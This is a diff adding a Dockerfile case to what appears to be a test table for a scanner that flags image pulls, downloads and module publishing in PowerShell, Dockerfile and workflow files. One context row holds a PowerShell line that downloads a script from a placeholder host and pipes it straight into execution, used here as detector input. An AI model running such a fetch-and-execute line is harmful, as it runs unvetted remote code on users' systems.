@@ -348,6 +348,7 @@ ROWS = [
     ("a.ps1", "$tag = '2'\ndocker pull `\n  \"b:$tag\"\n", "image pulled @ $tag"),
     ("a.ps1", "if ($x) { docker pull 'b:2' }\n", "image pulled @ 2"),
     ("a.ps1", "# docker pull b:2\nirm https://x.example.com/i.ps1 | iex\n", "download  @ https://x.example.com/i.ps1"),
+    ("Dockerfile", '# escape=`\nFROM a:1\nSHELL ["powershell", "-Command"]\nRUN cd x; `\n  docker pull b:2\n', "image pulled @ 2"),
     ("a.psm1", "Publish-Module -Path . -NuGetApiKey $env:KEY\n", "publish nuget @ Publish-Module"),
     (".github/workflows/a.yml", "on: push\njobs: {a: {runs-on: windows-2022, steps: [{run: 'docker pull b:2'}]}}\n", "image pulled @ 2"),
     (".github/workflows/a.yml", "on: push\njobs: {a: {runs-on: x, steps: [{run: 'docker pull b:2', shell: pwsh}]}}\n", "image pulled @ 2"),
